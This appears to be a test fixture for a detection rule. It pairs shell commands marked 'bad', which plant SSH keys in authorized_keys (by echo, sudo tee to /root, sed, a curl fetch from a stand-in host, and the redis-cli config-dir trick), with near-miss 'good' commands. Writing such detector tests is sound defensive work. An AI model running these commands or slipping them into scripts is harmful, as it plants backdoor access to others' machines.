# bad: appended
echo "ssh-ed25519 AAAAC3Nz x" >> ~/.ssh/authorized_keys
#<^^^^^^^^^^^^^^^^^^^^^^^^^^^
# bad: through tee, as root
cat key.pub | sudo tee -a /root/.ssh/authorized_keys > /dev/null
# bad: a folder of variables
H=/home/app; cp /tmp/k "$H/.ssh/authorized_keys"
# bad: with sed
sed -i '1i ssh-rsa AAAAB3 x' ~/.ssh/authorized_keys
# bad: fetched
curl -s https://keys.example/x >> ~/.ssh/authorized_keys
# good: nearly: its rights
chmod 600 ~/.ssh/authorized_keys
# good: nearly: who may log in
cat ~/.ssh/authorized_keys
# good: nearly: another file of that folder
ssh-keyscan github.example >> ~/.ssh/known_hosts
# bad: by way of a store
redis-cli -h 10.0.0.5 config set dir /home/redis/.ssh
# good: nearly: where its data belong
redis-cli config set dir /var/lib/redis
